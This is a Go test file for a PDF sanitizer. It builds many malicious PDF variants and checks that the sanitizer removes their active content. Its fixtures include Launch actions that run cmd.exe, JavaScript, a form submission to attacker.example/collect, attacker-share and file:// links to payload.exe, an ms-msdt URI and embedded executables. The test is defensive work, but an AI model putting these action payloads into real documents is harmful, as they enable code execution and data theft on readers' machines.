package pdf

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sekisho/sekisho/sanitize"
)

// The variant generator places active content, spelled three ways (inline, behind an
// indirect reference, with #xx escapes), in every position the sanitizer reads: link and
// widget actions, /Next chains (single, array, array behind a reference), bookmarks,
// /OpenAction, /AA on catalog, page, annotation and field, annotation arrays behind a
// reference, name trees, annotation subtypes, XObjects, resources and image filters.
// Each output is judged by qpdf (every reference resolved), MuPDF's link and bookmark
// listing and poppler's JavaScript listing; each input must be caught by one of them
// first, so a blind judge fails the test instead of passing it.

// danger is an action whose /S is written as %s.
type danger struct {
	name, s, body string
}

var dangers = []danger{
	{"launch", "Launch", "<< /S %s /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"},
	{"javascript", "JavaScript", "<< /S %s /JS (app.alert\\(1\\)) >>"},
	{"submit", "SubmitForm", "<< /S %s /F << /FS /URL /F (https://attacker.example/collect) >> >>"},
	{"gotor", "GoToR", "<< /S %s /F (//attacker.example/share/x.pdf) /D [0 /Fit] >>"},
	{"importdata", "ImportData", "<< /S %s /F (data.fdf) >>"},
	{"uri-file", "URI", "<< /S %s /URI (file://attacker.example/share/payload.exe) >>"},
	{"uri-js", "URI", "<< /S %s /URI (javascript:app.alert\\(1\\)) >>"},
	{"uri-msdt", "URI", "<< /S %s /URI (ms-msdt:/id PCWDiagnostic) >>"},
	{"named-print", "Named", "<< /S %s /N /Print >>"},
}

// spell writes a name three ways; "ref" adds an object holding the name.
func spell(p *pdfFile, how, n string) string {
	switch how {
	case "ref":
		return fmt.Sprintf("%d 0 R", p.add("/"+n))
	case "escaped":
		return "/" + escapeName(n)
	}
	return "/" + n
}

func escapeName(n string) string {
	var b strings.Builder
	for i, c := range []byte(n) {
		if i%2 == 0 {
			fmt.Fprintf(&b, "#%02X", c)
		} else {
			b.WriteByte(c)
		}
	}
	return b.String()
}

// actionPositions place an action (the text of an action dictionary) in a document.
var actionPositions = map[string]func(action string) *pdfFile{
	"link-A": func(a string) *pdfFile {
		return basePDF("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [72 600 300 630] /A "+a+" >>]")
	},
	"link-A-ref": func(a string) *pdfFile {
		p := basePDF("", "/Annots [6 0 R]")
		p.add("<< /Type /Annot /Subtype /Link /Rect [72 600 300 630] /A 7 0 R >>")
		p.add(a)
		return p
	},
	"link-next": func(a string) *pdfFile {
		return basePDF("", "/Annots [<< /Subtype /Link /Rect [72 600 300 630] /A << /S /GoTo /D [3 0 R /Fit] /Next "+a+" >> >>]")
	},
	"link-next-array": func(a string) *pdfFile {
		p := basePDF("", "/Annots [<< /Subtype /Link /Rect [72 600 300 630] /A << /S /GoTo /D [3 0 R /Fit] /Next [6 0 R 7 0 R] >> >>]")
		p.add("<< /S /GoTo /D [3 0 R /XYZ 0 792 0] >>")
		p.add(a)
		return p
	},
	"link-next-array-ref": func(a string) *pdfFile {
		p := basePDF("", "/Annots [<< /Subtype /Link /Rect [72 600 300 630] /A << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >> >>]")
		p.add("[7 0 R]")
		p.add(a)
		return p
	},
	"outline": func(a string) *pdfFile {
		p := basePDF("/Outlines 6 0 R", "")
		p.add("<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>")
		p.add("<< /Title (Open) /Parent 6 0 R /A " + a + " >>")
		return p
	},
	"openaction": func(a string) *pdfFile { return basePDF("/OpenAction "+a, "") },
	"catalog-aa": func(a string) *pdfFile { return basePDF("/AA << /WC "+a+" >>", "") },
	"page-aa-ref": func(a string) *pdfFile {
		p := basePDF("", "/AA 6 0 R")
		p.add("<< /O " + a + " >>")
		return p
	},
	"annot-aa": func(a string) *pdfFile {
		return basePDF("", "/Annots [<< /Subtype /Square /Rect [72 600 300 630] /AA << /E "+a+" >> >>]")
	},
	"widget-A": func(a string) *pdfFile {
		p := basePDF("/AcroForm << /Fields [6 0 R] >>", "/Annots [6 0 R]")
		p.add("<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 500 200 530] /P 3 0 R /A " + a + " >>")
		return p
	},
	"field-aa": func(a string) *pdfFile {
		p := basePDF("/AcroForm << /Fields [6 0 R] >>", "/Annots [7 0 R]")
		p.add("<< /FT /Tx /T (name) /Kids [7 0 R] /AA << /K " + a + " >> >>")
		p.add("<< /Type /Annot /Subtype /Widget /Parent 6 0 R /Rect [72 500 200 530] /P 3 0 R >>")
		return p
	},
	"annots-array-ref": func(a string) *pdfFile {
		p := basePDF("", "/Annots 6 0 R")
		p.add("[<< /Subtype /Link /Rect [72 600 300 630] /A " + a + " >>]")
		return p
	},
	"names-javascript": func(a string) *pdfFile {
		p := basePDF("/Names << /JavaScript 6 0 R >>", "")
		p.add("<< /Kids [7 0 R] >>")
		p.add("<< /Names [(init) " + a + "] >>")
		return p
	},
}

// structural variants place other kinds of active content behind references.
func structuralVariants() map[string]func() *pdfFile {
	out := map[string]func() *pdfFile{}
	for _, st := range []string{"3D", "FileAttachment", "RichMedia", "Screen", "Movie", "Sound"} {
		for _, how := range []string{"ref", "escaped"} {
			out["annot-subtype-"+st+"-"+how] = func() *pdfFile {
				p := basePDF("", "/Annots [6 0 R]")
				p.add("") // the annotation, filled below once the name object exists
				sub := spell(p, how, st)
				p.objs[5] = "<< /Type /Annot /Subtype " + sub + " /Rect [72 300 400 600] /3DD << /OnInstantiate 1 >> /FS << /EF << /F 1 >> >> /RichMediaContent << >> >>"
				return p
			}
		}
	}
	out["xobject-ps-subtype-ref"] = func() *pdfFile {
		p := basePDF("", "")
		p.objs[2] = strings.Replace(p.objs[2], "/Resources << /Font << /F1 5 0 R >> >>", "/Resources 6 0 R", 1)
		p.objs[3] = stream("", []byte("/X1 Do BT /F1 24 Tf 72 700 Td (PS) Tj ET"), false)
		p.add("<< /Font << /F1 5 0 R >> /XObject << /X1 7 0 R >> >>")
		p.add(stream("/Type /XObject /Subtype 8 0 R", []byte("(calc) run"), false))
		p.add("/PS")
		return p
	}
	out["names-embeddedfiles-kids-ref"] = func() *pdfFile {
		p := basePDF("/Names << /EmbeddedFiles 6 0 R >>", "")
		p.add("<< /Kids [7 0 R] >>")
		p.add("<< /Names [(x.exe) << /Type /Filespec /F (x.exe) /EF << /F 8 0 R >> >>] >>")
		p.add(stream("/Type /EmbeddedFile", []byte("MZ"), false))
		return p
	}
	out["struct-objr-fileattachment"] = func() *pdfFile {
		p := basePDF("/StructTreeRoot 6 0 R /MarkInfo << /Marked true >>", "")
		p.add("<< /Type /StructTreeRoot /K [7 0 R] >>")
		p.add("<< /S /Annot /P 6 0 R /Pg 3 0 R /K [<< /Type /OBJR /Obj 8 0 R >>] >>")
		p.add("<< /Type /Annot /Subtype 9 0 R /Rect [0 0 10 10] /FS << /F (x.exe) /EF << /F 10 0 R >> >> >>")
		p.add("/FileAttachment")
		p.add(stream("/Type /EmbeddedFile", []byte("MZ"), false))
		return p
	}
	out["3d-stream-oninstantiate"] = func() *pdfFile {
		p := basePDF("", "/Annots [6 0 R]")
		p.add("<< /Type /Annot /Subtype 8 0 R /Rect [72 300 400 600] /3DD 7 0 R /3DA << /A /PO >> >>")
		p.add(stream("/Type /3D /Subtype /U3D /OnInstantiate 9 0 R", []byte("U3D"), false))
		p.add("/3D")
		p.add(stream("", []byte("app.alert(1)"), false))
		return p
	}
	return out
}

// renderVariants carry image data no decoder here reads: they must go to render.
func renderVariants() map[string]func() *pdfFile {
	img := func(filter string, extra ...string) func() *pdfFile {
		return func() *pdfFile {
			p := basePDF("", "")
			p.objs[2] = strings.Replace(p.objs[2], "/Font << /F1 5 0 R >>", "/Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >>", 1)
			p.objs[3] = stream("", []byte("q 100 0 0 100 72 600 cm /Im1 Do Q"), false)
			p.add(stream("/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter "+filter,
				[]byte(strings.Repeat("JBIG2_EXPLOIT_PAYLOAD_MARKER", 20)), false))
			for _, e := range extra {
				p.add(e)
			}
			return p
		}
	}
	// A filter array holding a reference is refused by pdfcpu as malformed (also fail
	// closed); TestFilterArrayWithReference covers it.
	return map[string]func() *pdfFile{
		"image-jbig2":                img("/JBIG2Decode"),
		"image-jbig2-filter-ref":     img("7 0 R", "/JBIG2Decode"),
		"image-jpx-escaped":          img("/JPXD#65code"),
		"image-jbig2-array-is-a-ref": img("7 0 R", "[/JBIG2Decode]"),
	}
}

func TestVariants(t *testing.T) {
	s := New(Options{})
	dir := t.TempDir()
	write := func(name string, data []byte) string {
		f := filepath.Join(dir, name+".pdf")
		if err := os.WriteFile(f, data, 0o644); err != nil {
			t.Fatal(err)
		}
		return f
	}
	judge := func(t *testing.T, file string) []string {
		found := judgeQPDF(t, file)
		found = append(found, badLinks(mutoolLinks(t, file))...)
		if js := popplerJS(t, file); js != "" {
			found = append(found, "poppler JavaScript: "+js)
		}
		return found
	}
	check := func(t *testing.T, name string, in []byte) {
		// qpdf alone must see every input's active content; all three judge the output.
		if found := judgeQPDF(t, write(name, in)); len(found) == 0 {
			t.Fatalf("the judges find nothing in the input: they are blind to %s", name)
		}
		out, res, err := run(t, s, in)
		if err != nil {
			t.Fatalf("Sanitize: %v", err)
		}
		if res.Verdict != sanitize.Sanitized || len(res.Actions) == 0 {
			t.Errorf("verdict %s with %d actions, want sanitized and reported", res.Verdict, len(res.Actions))
		}
		if found := judge(t, write(name+".out", out)); len(found) > 0 {
			t.Errorf("output still holds %v", found)
		}
		if err := reparse(out); err != nil {
			t.Errorf("output does not reparse: %v", err)
		}
	}
	for pos, place := range actionPositions {
		for _, d := range dangers {
			for _, how := range []string{"inline", "ref", "escaped"} {
				if pos == "names-javascript" && d.name != "javascript" || testing.Short() && how != "ref" {
					continue
				}
				name := pos + "/" + d.name + "/" + how
				t.Run(name, func(t *testing.T) {
					// The action's /S is spelled into a file that already has the position's
					// objects, so the reference gets the next free number.
					p := place(fmt.Sprintf(d.body, "%s"))
					for i, o := range p.objs {
						if strings.Contains(o, "/S %s") {
							sp := spell(p, how, d.s)
							p.objs[i] = fmt.Sprintf(o, sp)
						}
					}
					data, _ := p.bytes("")
					check(t, strings.ReplaceAll(name, "/", "_"), data)
				})
			}
		}
	}
	for name, build := range structuralVariants() {
		t.Run(name, func(t *testing.T) {
			data, _ := build().bytes("")
			check(t, name, data)
		})
	}
	for name, build := range renderVariants() {
		t.Run(name, func(t *testing.T) {
			data, _ := build().bytes("")
			_, _, err := run(t, s, data)
			if !errors.Is(err, sanitize.ErrNeedsRender) || !strings.Contains(err.Error(), "object 6") {
				t.Fatalf("Sanitize error = %v, want ErrNeedsRender naming object 6", err)
			}
		})
	}
}

func TestFilterArrayWithReference(t *testing.T) {
	p := basePDF("", "")
	p.objs[2] = strings.Replace(p.objs[2], "/Font << /F1 5 0 R >>", "/Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >>", 1)
	p.add(stream("/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter [7 0 R]", []byte("JBIG2"), false))
	p.add("/JBIG2Decode")
	data, _ := p.bytes("")
	_, _, err := run(t, New(Options{}), data)
	if !errors.Is(err, sanitize.ErrNeedsRender) && !errors.Is(err, sanitize.ErrMalformed) {
		t.Fatalf("Sanitize error = %v, want the document refused", err)
	}
}
